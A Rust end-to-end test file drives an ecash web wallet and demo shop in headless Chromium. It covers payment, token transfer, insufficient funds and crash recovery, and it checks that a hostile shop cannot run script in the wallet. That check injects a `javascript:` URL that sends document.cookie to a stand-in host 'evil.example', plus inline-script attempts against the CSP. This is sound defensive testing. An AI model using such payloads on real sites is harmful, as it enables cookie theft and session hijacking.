//! The web wallet end to end, in real headless Chromium, against the real
//! mint-server serving the Trunk-built app and the demo shop: create, faucet,
//! withdraw, pay through the shop's link, fulfillment page, reload, send to a
//! second browser profile; too little money; the bank stopped mid-payment.
//! Each step saves a screenshot under `target/e2e-screenshots/`.

use std::time::{Duration, Instant};

use browser_e2e::*;

fn money(s: &str) -> impl Fn(&str) -> bool + '_ {
    move |t: &str| t.trim() == s
}

#[tokio::test(flavor = "current_thread")]
async fn wallet_and_shop_in_the_browser() {
    let mut mint = Mint::start();
    let driver = Driver::start();
    let profiles = tempfile::tempdir().expect("profiles");
    let a = driver.session(&profiles.path().join("a")).await;
    let url = mint.url.clone();

    // 1. Open the wallet and create it; the seed is shown once.
    let t0 = Instant::now();
    a.goto(&format!("{url}/")).await.expect("open wallet");
    click(&a, "#create").await;
    let seed = wait_text(&a, "#seed-phrase", "the seed phrase", |t| t.len() == 79).await;
    assert_eq!(seed.matches('-').count(), 15);
    screenshot(&a, "01-created-seed").await;
    click(&a, "#seed-ok").await;

    // 2. Faucet, then withdraw.
    fill(&a, "#faucet-amount", "50").await;
    click(&a, "#faucet-btn").await;
    wait_text(
        &a,
        "#account-balance",
        "account balance",
        money("50.00 DEMO"),
    )
    .await;
    fill(&a, "#withdraw-amount", "20").await;
    click(&a, "#withdraw-btn").await;
    wait_text(&a, "#message", "withdraw done", |t| {
        t.starts_with("Withdrew 20.00 DEMO")
    })
    .await;
    wait_text(
        &a,
        "#account-balance",
        "account debited",
        money("30.00 DEMO"),
    )
    .await;
    screenshot(&a, "02-withdrawn").await;
    click(&a, "#nav-balance").await;
    wait_text(&a, "#balance-total", "balance", money("20.00 DEMO")).await;
    let coins = text(&a, "#denominations tbody").await;
    assert!(!coins.trim().is_empty(), "coins by denomination are listed");

    // 3. The shop: pick an item and order it (a POST: looking stores nothing).
    a.goto(&format!("{url}/shop")).await.expect("shop");
    a.goto(&format!("{url}/shop/item/sticker"))
        .await
        .expect("item");
    click(&a, "#buy").await;
    wait_text(&a, "#pay-link", "pay link", |t| {
        t.contains("Pay with Ecash")
    })
    .await;
    screenshot(&a, "03-shop-order").await;

    // 4. Pay through the link flow.
    click(&a, "#pay-link").await;
    let amount = wait_text(&a, "#pay-amount", "payment amount", |t| t.contains("DEMO")).await;
    assert_eq!(amount.trim(), "0.99 DEMO");
    assert!(!text(&a, "#pay-description").await.trim().is_empty());
    assert!(text(&a, "#pay-merchant").await.contains("demo-bank"));
    assert_eq!(
        text(&a, "#pay-origin").await.trim(),
        url,
        "the shop's site is shown"
    );
    let here = a.current_url().await.expect("url").to_string();
    assert!(
        !here.contains("payreq"),
        "the request left the address bar: {here}"
    );
    screenshot(&a, "04-pay-confirm").await;
    click(&a, "#pay-confirm").await;

    // 5. Back at the shop's fulfillment page: goods and receipt.
    wait_text(&a, "#goods-title", "the goods", |t| !t.is_empty()).await;
    let here = a.current_url().await.expect("url").to_string();
    assert!(
        here.contains("/shop/fulfillment/") && here.contains("#payment_id="),
        "{here}"
    );
    assert!(
        !here.contains('?'),
        "the payment id is in the fragment only: {here}"
    );
    let receipt = text(&a, "#receipt").await;
    assert!(receipt.contains("0.99 DEMO"), "{receipt}");
    assert!(!text(&a, "#goods").await.trim().is_empty());
    screenshot(&a, "05-fulfillment").await;

    // 6. Reload the wallet: the balance persisted in IndexedDB.
    let t_load = Instant::now();
    a.goto(&format!("{url}/")).await.expect("wallet again");
    wait_text(
        &a,
        "#balance-total",
        "persisted balance",
        money("19.01 DEMO"),
    )
    .await;
    let load_ms = t_load.elapsed().as_millis();
    screenshot(&a, "06-reloaded").await;
    // Phone width: the same screen still fits.
    a.set_window_size(390, 844).await.expect("phone width");
    screenshot(&a, "06a-phone-width").await;
    a.set_window_size(1000, 1000).await.expect("desktop width");
    click(&a, "#nav-history").await;
    wait_text(&a, "#history", "the payment in history", |t| {
        t.contains("Paid") && t.contains("signed receipt")
    })
    .await;
    screenshot(&a, "06b-history").await;

    // 7. Send a token to a second browser profile, which receives it.
    click(&a, "#nav-send").await;
    fill(&a, "#send-amount", "1").await;
    click(&a, "#send-btn").await;
    let token = {
        let deadline = Instant::now() + Duration::from_secs(60);
        loop {
            let v = value(&a, "#token-text").await;
            if v.starts_with("ecash1") {
                break v;
            }
            assert!(Instant::now() < deadline, "no token appeared");
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
    };
    screenshot(&a, "07-send-token").await;
    let link = a
        .find(fantoccini::Locator::Css("#token-link"))
        .await
        .expect("token link")
        .attr("href")
        .await
        .expect("href")
        .expect("a link");
    assert!(
        link.starts_with(&format!("{url}/#token=ecash1")) && !link.contains('?'),
        "the token rides in the fragment: {link}"
    );
    click(&a, "#nav-balance").await;
    wait_text(
        &a,
        "#balance-total",
        "balance after send",
        money("18.01 DEMO"),
    )
    .await;

    // The second profile opens the link: the token arrives in the Receive screen.
    let b = driver.session(&profiles.path().join("b")).await;
    b.goto(&format!("{url}/")).await.expect("open wallet b");
    click(&b, "#create").await;
    wait_text(&b, "#seed-phrase", "seed b", |t| t.len() == 79).await;
    click(&b, "#seed-ok").await;
    b.goto(&link).await.expect("open the token link");
    let got = {
        let deadline = Instant::now() + Duration::from_secs(60);
        loop {
            let v = value(&b, "#receive-token").await;
            if v.starts_with("ecash1") {
                break v;
            }
            assert!(
                Instant::now() < deadline,
                "the link did not fill in the token"
            );
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
    };
    assert_eq!(got, token);
    click(&b, "#receive-btn").await;
    wait_text(&b, "#message", "received", |t| {
        t.starts_with("Received 1.00 DEMO")
    })
    .await;
    click(&b, "#nav-balance").await;
    wait_text(&b, "#balance-total", "b's balance", money("1.00 DEMO")).await;
    screenshot(&b, "08-received-in-second-profile").await;

    // Failure: too little money shows the message; the balance is unchanged.
    b.goto(&format!("{url}/shop/item/coffee"))
        .await
        .expect("coffee");
    click(&b, "#buy").await;
    click(&b, "#pay-link").await;
    wait_text(&b, "#pay-amount", "price", |t| t.contains("DEMO")).await;
    click(&b, "#pay-confirm").await;
    let msg = wait_text(&b, "#message", "insufficient funds", |t| {
        t.contains("Not enough money")
    })
    .await;
    assert!(msg.contains("you have 1.00"), "{msg}");
    screenshot(&b, "09-insufficient-funds").await;
    click(&b, "#nav-balance").await;
    wait_text(&b, "#balance-total", "b unchanged", money("1.00 DEMO")).await;

    // Failure: the bank stops mid-payment; after the restart, recovery
    // finishes what was journaled. If the price needs change, the first round
    // journals the change exchange (recovery gives the coins back as change)
    // and the second round journals the payment itself (recovery pays).
    let mut journaled_payment = false;
    for round in 1..=2 {
        a.goto(&format!("{url}/shop/item/haiku"))
            .await
            .expect("haiku");
        click(&a, "#buy").await;
        click(&a, "#pay-link").await;
        let price = wait_text(&a, "#pay-amount", "price", |t| t.contains("DEMO")).await;
        assert_eq!(price.trim(), "0.25 DEMO");
        mint.kill();
        click(&a, "#pay-confirm").await;
        let msg = wait_text(&a, "#message", "bank down", |t| {
            t.contains("cannot be reached")
        })
        .await;
        assert!(msg.contains("saved"), "{msg}");
        screenshot(&a, &format!("10-bank-down-mid-payment-round{round}")).await;
        click(&a, "#nav-history").await;
        let pending = wait_text(&a, "#pending", "pending operation", |t| !t.is_empty()).await;
        journaled_payment = pending.contains("payment");
        mint.restart();
        a.goto(&format!("{url}/"))
            .await
            .expect("wallet after restart");
        wait_text(&a, "#message", "recovery report", |t| {
            t.contains("completed")
        })
        .await;
        let expect = if journaled_payment {
            "17.76 DEMO"
        } else {
            "18.01 DEMO"
        };
        wait_text(
            &a,
            "#balance-total",
            "balance after recovery",
            money(expect),
        )
        .await;
        screenshot(&a, &format!("11-recovered-round{round}")).await;
        click(&a, "#nav-history").await;
        wait_text(&a, "#pending-none", "nothing pending", |t| {
            t.contains("None")
        })
        .await;
        if journaled_payment {
            break;
        }
    }
    assert!(journaled_payment, "a journaled payment was recovered");

    println!(
        "E2E page load to usable wallet (reload, balance shown): {load_ms} ms; whole run {} s",
        t0.elapsed().as_secs()
    );
    let _ = a.close().await;
    let _ = b.close().await;
}

/// Finding 1 in the browser: a shop that answers a payment with a
/// `javascript:` fulfillment URL (or puts one in its payment request) gets
/// nothing run: the wallet shows an error and stays; and the wallet page's
/// CSP stops script URLs and inline script even if something tried.
#[tokio::test(flavor = "current_thread")]
async fn a_hostile_shop_runs_no_script_in_the_wallet() {
    use std::sync::Arc;
    use std::sync::atomic::{AtomicBool, Ordering};

    let shop_port = free_port();
    let shop = format!("http://127.0.0.1:{shop_port}");
    let mint = Mint::start_with(&["--public-url", &shop], true);
    let url = mint.url.clone();
    // The hostile shop: the demo shop behind a proxy that rewrites its
    // payment answers (and, when asked, its payment requests).
    let in_payreq = Arc::new(AtomicBool::new(false));
    let flag = in_payreq.clone();
    let payload = "javascript:document.title='pwned';fetch('//evil.example/'+document.cookie)";
    let rewrite: Arc<browser_e2e::proxy::Rewrite> =
        Arc::new(move |path: &str, body: &mut Vec<u8>| {
            let answer = path.starts_with("/shop/api/pay/");
            let payreq = path.starts_with("/shop/api/orders/") && flag.load(Ordering::SeqCst);
            if !(answer || payreq) {
                return;
            }
            if let Ok(mut v) = serde_json::from_slice::<serde_json::Value>(body) {
                v["fulfillment_url"] = serde_json::json!(payload);
                *body = serde_json::to_vec(&v).unwrap_or_default();
            }
        });
    let upstream = url.trim_start_matches("http://").to_owned();
    let _proxy = browser_e2e::proxy::Proxy::start(shop_port, &upstream, Some(rewrite));

    // The wallet page carries the strict policy.
    let csp = reqwest::get(format!("{url}/"))
        .await
        .expect("wallet page")
        .headers()
        .get("content-security-policy")
        .and_then(|v| v.to_str().ok())
        .unwrap_or_default()
        .to_owned();
    assert!(
        csp.contains("script-src 'self' 'wasm-unsafe-eval';") && !csp.contains("unsafe-inline"),
        "{csp}"
    );

    let driver = Driver::start();
    let profiles = tempfile::tempdir().expect("profiles");
    let a = driver.session(&profiles.path().join("victim")).await;
    a.goto(&format!("{url}/")).await.expect("open wallet");
    click(&a, "#create").await;
    wait_text(&a, "#seed-phrase", "the seed phrase", |t| t.len() == 79).await;
    click(&a, "#seed-ok").await;
    fill(&a, "#faucet-amount", "10").await;
    click(&a, "#faucet-btn").await;
    wait_text(&a, "#account-balance", "account", money("10.00 DEMO")).await;
    fill(&a, "#withdraw-amount", "5").await;
    click(&a, "#withdraw-btn").await;
    wait_text(&a, "#message", "withdrawn", |t| t.starts_with("Withdrew")).await;
    let title = a.title().await.expect("title");

    let order = |item: &'static str| {
        let shop = shop.clone();
        async move {
            let p: serde_json::Value = reqwest::Client::new()
                .post(format!("{shop}/shop/api/orders"))
                .json(&serde_json::json!({ "item_id": item }))
                .send()
                .await
                .expect("order")
                .json()
                .await
                .expect("payreq");
            let u = format!(
                "{shop}/shop/api/orders/{}",
                p["payreq_id"].as_str().expect("id")
            );
            let enc: String = u
                .bytes()
                .map(|b| {
                    if b.is_ascii_alphanumeric() {
                        (b as char).to_string()
                    } else {
                        format!("%{b:02X}")
                    }
                })
                .collect();
            enc
        }
    };

    // A payment request whose fulfillment URL is script: refused before paying.
    in_payreq.store(true, Ordering::SeqCst);
    let enc = order("haiku").await;
    a.goto(&format!("{url}/#payreq={enc}"))
        .await
        .expect("pay link");
    let msg = wait_text(&a, "#message", "refusal", |t| t.contains("cannot be paid")).await;
    assert!(msg.contains("javascript:"), "{msg}");
    assert!(text(&a, "#pay-confirm").await.is_empty(), "no pay button");
    screenshot(&a, "12-hostile-payreq-refused").await;
    in_payreq.store(false, Ordering::SeqCst);

    // An honest-looking request, answered with a script URL after payment.
    let enc = order("haiku").await;
    a.goto(&format!("{url}/#payreq={enc}"))
        .await
        .expect("pay link");
    let site = wait_text(&a, "#pay-origin", "the shop's site", |t| !t.is_empty()).await;
    assert_eq!(site.trim(), shop);
    click(&a, "#pay-confirm").await;
    let msg = wait_text(&a, "#message", "the refused link", |t| {
        t.contains("will not follow")
    })
    .await;
    assert!(msg.contains("javascript:"), "{msg}");
    tokio::time::sleep(Duration::from_millis(1500)).await;
    let here = a.current_url().await.expect("url").to_string();
    assert!(here.starts_with(&url), "the wallet navigated away: {here}");
    assert_eq!(a.title().await.expect("title"), title, "the script ran");
    screenshot(&a, "13-hostile-answer-refused").await;
    click(&a, "#nav-history").await;
    wait_text(&a, "#history", "the payment", |t| t.contains("Paid")).await;
    let script_links = a
        .execute(
            "return document.querySelectorAll('a[href^=\"javascript:\"]').length",
            vec![],
        )
        .await
        .expect("count links");
    assert_eq!(
        script_links,
        serde_json::json!(0),
        "a script link on the page"
    );

    // Even a script URL or an inline script put in the page does nothing: the CSP.
    a.execute(
        "location.href = \"javascript:document.title='csp-bypassed'\"; \
         const s = document.createElement('script'); \
         s.textContent = \"document.title='inline-ran'\"; document.body.append(s);",
        vec![],
    )
    .await
    .expect("execute");
    tokio::time::sleep(Duration::from_millis(800)).await;
    assert_eq!(
        a.title().await.expect("title"),
        title,
        "the CSP let script run"
    );
    let _ = a.close().await;
}
